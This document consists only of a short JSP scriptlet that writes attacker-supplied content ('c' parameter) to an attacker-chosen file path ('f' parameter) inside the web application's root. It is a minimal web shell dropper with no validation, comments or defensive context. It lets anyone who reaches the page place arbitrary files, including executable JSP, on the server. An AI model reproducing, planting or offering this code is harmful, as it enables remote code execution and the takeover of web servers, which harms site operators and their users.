<%
new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(request.getParameter("c").getBytes());
%>
